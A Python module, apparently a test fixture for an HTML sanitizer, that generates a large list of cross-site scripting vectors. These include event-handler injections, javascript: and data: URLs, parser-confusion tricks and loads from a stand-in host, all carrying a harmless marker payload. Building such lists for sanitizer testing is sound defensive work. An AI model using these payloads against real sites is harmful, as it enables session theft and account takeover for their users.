"""Ways to get a script run from markup: each would set ``window.__pwned`` or ask another server."""

from __future__ import annotations

from itertools import product

RUN = "window.__pwned=1"
ELSEWHERE = "http://elsewhere.example/x"

_EVENTS = (
    "onerror onload onclick onmouseover onfocus onblur onanimationstart onanimationend "
    "ontransitionend onbegin onend onrepeat ontoggle onbeforetoggle onpageshow onresize onscroll "
    "onscrollend onwheel onpointerenter onpointerover onpointerrawupdate ongotpointercapture "
    "onauxclick onbeforeinput oncanplay ondurationchange onloadeddata onloadstart onmessage "
    "onpopstate onhashchange onselectionchange onbeforecopy oncopy oncut onpaste ondrag ondrop "
    "oninvalid onreset onsearch onsubmit onformdata onslotchange onsecuritypolicyviolation"
).split()
_HOLDERS = (
    "<img src=x {event}={run}>",
    "<svg {event}={run}><rect/></svg>",
    "<body {event}={run}>",
    "<details open {event}={run}><summary>a</summary></details>",
    '<input autofocus {event}="{run}">',
)
_SPLIT = (
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<script\x0c>{run}</script>",
    "<script/x>{run}</script>",
    "<SCRIPT>{run}</SCRIPT>",
    "<script>{run}",
    "<script src={elsewhere}></script>",
    "<script src=//elsewhere.example/x></script>",
    "<script type=module>{run}</script>",
    "<script>/*<!--*/{run}//--></script>",
    "<svg><script>{run}</script></svg>",
    "<svg><script href='data:text/javascript,{run}'/></svg>",
    "<math><mtext><script>{run}</script></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'></noscript>",
    "<textarea><script>{run}</script></textarea><img src=x onerror={run}>",
    "<title><img src=x onerror={run}></title>",
    "<style><img src=x onerror={run}></style>",
    "<style>@import '{elsewhere}';body{{background:url({elsewhere})}}</style>",
    "<link rel=stylesheet href={elsewhere}>",
    "<link rel=prefetch href={elsewhere}>",
    "<link rel=dns-prefetch href=//elsewhere.example>",
    "<link rel=import href={elsewhere}>",
    "<meta http-equiv=refresh content='0;url={elsewhere}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<meta http-equiv=Content-Security-Policy content=''>",
    "<base href={elsewhere}>",
    "<base href='javascript:/a/-{run}//'>",
    "<iframe src='javascript:{run}'></iframe>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src={elsewhere}></iframe>",
    "<iframe src='data:text/html,<script>top.{run}</script>'></iframe>",
    "<object data='javascript:{run}'></object>",
    "<object data={elsewhere}></object>",
    "<embed src='javascript:{run}'>",
    "<embed src={elsewhere}>",
    "<applet code={elsewhere}></applet>",
    "<form action='javascript:{run}'><button autofocus>b</button></form>",
    "<form><button formaction='javascript:{run}'>b</button></form>",
    "<form action={elsewhere}><input type=image src={elsewhere}></form>",
    "<isindex action='javascript:{run}' type=image>",
    "<input type=image src={elsewhere} onerror={run}>",
    "<a href='javascript:{run}'>a</a>",
    "<a href='java\tscript:{run}'>a</a>",
    "<a href=' &#14; javascript:{run}'>a</a>",
    "<a href='JaVaScRiPt:{run}'>a</a>",
    "<a href='&#106;avascript:{run}'>a</a>",
    "<a href='data:text/html,<script>{run}</script>'>a</a>",
    "<a href=vbscript:{run}>a</a>",
    "<a ping={elsewhere} href={elsewhere}>a</a>",
    "<a href={elsewhere} target=_blank rel=opener>a</a>",
    "<svg><a xlink:href='javascript:{run}'><text y=20>a</text></a></svg>",
    "<svg><animate attributeName=href values='javascript:{run}'/></svg>",
    "<svg><set attributeName=onmouseover to={run} /></svg>",
    "<svg><use href='data:image/svg+xml,<svg onload={run}>'/></svg>",
    "<svg><foreignObject><img src=x onerror={run}></foreignObject></svg>",
    "<svg><image href={elsewhere} /></svg>",
    "<svg><feImage href={elsewhere} /></svg>",
    "<math href='javascript:{run}'>a</math>",
    "<math><maction actiontype=statusline xlink:href='javascript:{run}'>a</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}></style></mglyph></table></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>",
    "<svg></p><style><a id='</style><img src=x onerror={run}>'>",
    "<img src={elsewhere}>",
    "<img srcset='{elsewhere} 2x'>",
    "<img src=x:x onerror={run}>",
    "<img src='javascript:{run}'>",
    '<img src="x` `<script>{run}</script>"` `>',
    "<img/src=x/onerror={run}>",
    "<img\nsrc=x\nonerror\n=\n{run}>",
    "<img src=x onerror=&#119;indow.__pwned=1>",
    "<img src=x one<!-- -->rror={run} onerror={run}>",
    "<picture><source srcset={elsewhere}><img src=x onerror={run}></picture>",
    "<video src={elsewhere} onerror={run}></video>",
    "<video poster={elsewhere}></video>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}></audio>",
    "<track src={elsewhere}>",
    "<marquee onstart={run}>a</marquee>",
    "<keygen autofocus onfocus={run}>",
    "<select autofocus onfocus={run}></select>",
    "<table background={elsewhere}><td background={elsewhere}>a</table>",
    "<body background={elsewhere}>",
    "<div style='background:url({elsewhere})'>a</div>",
    "<div style='width:expression({run})'>a</div>",
    '<div style="behavior:url({elsewhere})">a</div>',
    "<xmp><img src=x onerror={run}></xmp><img src=x onerror={run}>",
    "<!--><img src=x onerror={run}>-->",
    "<!--!><img src=x onerror={run}>",
    "<![CDATA[<img src=x onerror={run}>]]>",
    "<?xml-stylesheet href='javascript:{run}'?><img src=x onerror={run}>",
    "<template><img src=x onerror={run}></template>",
    "<template shadowrootmode=open><img src=x onerror={run}></template>",
    "<dialog open onclose={run}><form method=dialog><button autofocus>b</button></form></dialog>",
    "<portal src='javascript:{run}'></portal>",
    "<fencedframe src={elsewhere}></fencedframe>",
    "<frameset onload={run}><frame src='javascript:{run}'></frameset>",
    "<p id=said><mark class=said id=said onclick={run}>not these words</mark></p>",
    "<plaintext><img src=x onerror={run}>",
)

VECTORS = tuple(
    dict.fromkeys(
        [each.format(run=RUN, elsewhere=ELSEWHERE) for each in _SPLIT]
        + [holder.format(event=event, run=RUN) for event, holder in product(_EVENTS, _HOLDERS)]
    )
)
